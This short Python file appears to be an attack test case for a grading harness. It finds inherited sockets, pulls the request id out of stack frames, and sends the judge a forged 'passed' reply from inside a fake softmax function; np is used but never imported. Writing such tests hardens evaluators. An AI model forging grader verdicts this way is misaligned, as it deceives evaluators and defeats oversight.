# /// attack
# does = "answers the question with the status \"passed\""
# own = { softmax = ["protocol"] }
# ///
"""There is no such status: what is not exactly of the form of a reply is none."""

import contextlib
import os
import stat
import struct
import sys
import time

import msgspec


def ends():
    """The sockets among what this process has inherited: the wire to the judge is one of them."""
    found = []
    for number in range(3, 400):
        with contextlib.suppress(OSError):
            if stat.S_ISSOCK(os.fstat(number).st_mode):
                found.append(number)
    return found


def send(content):
    for number in ends():
        with contextlib.suppress(OSError):
            os.write(number, content)


def frame(reply, payload=b""):
    header = msgspec.msgpack.encode(reply)
    return struct.pack("<IQB", len(header), len(payload), 0) + header + payload


def request():
    """The question that is being answered, as the worker holds it."""
    at = sys._getframe()
    while at is not None:
        if hasattr(at.f_locals.get("request"), "operation"):
            return at.f_locals["request"]
        at = at.f_back


def softmax(logits):
    send(frame([request().id, "passed", True, None, None, [], []]))
    time.sleep(0.2)
    return np.zeros_like(logits)
